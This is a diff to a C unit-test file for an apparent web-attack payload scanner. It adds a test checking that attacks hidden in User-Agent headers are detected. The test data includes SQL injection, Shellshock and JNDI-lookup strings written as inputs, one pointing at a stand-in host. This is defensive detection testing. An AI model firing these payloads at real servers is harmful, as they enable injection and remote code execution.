@@ -289,6 +289,35 @@ static void check(const struct exit_case *c, size_t cnt)
 	payload_cache_enable(1);
 }
 
+/* A browser's User-Agent wakes sqli ('(' and its words), cmdi (blanks,
+ * ';', '/'), xss, trav and data: a fast path for the UA grammar must let
+ * each of these through (as header values) */
+static const struct exit_case ua_cases[] = {
+	{"Mozilla/5.0 (X11; Linux) sleep(5)", 0, PAYLOAD_SQLI, 80, "time or file function call"},
+	{"Mozilla/5.0 (' or 1=1-- )", 0, PAYLOAD_SQLI, 90, "boolean tautology on literals"},
+	{"() { :;}; id", 0, PAYLOAD_SHELLSHOCK, 95, "bash function definition at value start"},
+	{"Mozilla/5.0 () { :;}; /bin/id", 0, PAYLOAD_CMDI, 90, "command after shell separator"},
+	{"Mozilla/5.0 ${jndi:ldap://x.example/a}", 0, PAYLOAD_JNDI, 95, "jndi lookup"},
+};
+
+static void test_ua_attacks_found(void **st)
+{
+	(void)st;
+	payload_cache_enable(0);
+	for (size_t i = 0; i < sizeof(ua_cases) / sizeof(ua_cases[0]); i++) {
+		const struct exit_case *c = &ua_cases[i];
+		struct payload_match m[PAYLOAD__COUNT];
+		int n = payload_scan(c->in, strlen(c->in), PAYLOAD_WHERE_HEADER, m, PAYLOAD__COUNT), found = -1;
+
+		for (int k = 0; k < n; k++)
+			if (m[k].kind == c->kind)
+				found = k;
+		if (found < 0 || m[found].score != c->score || strcmp(m[found].why, c->why) != 0)
+			fail_msg("%s: no %s %d %s", c->in, payload_kind_names[c->kind], c->score, c->why);
+	}
+	payload_cache_enable(1);
+}
+
 static void test_shell_exits_let_attacks_through(void **st)
 {
 	(void)st;
@@ -379,6 +408,7 @@ int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_shell_exits_let_attacks_through),
+		cmocka_unit_test(test_ua_attacks_found),
 		cmocka_unit_test(test_exits_keep_prose_clean),
 		cmocka_unit_test(test_trav_exits_let_attacks_through),
 		cmocka_unit_test(test_xss_exits_let_attacks_through),
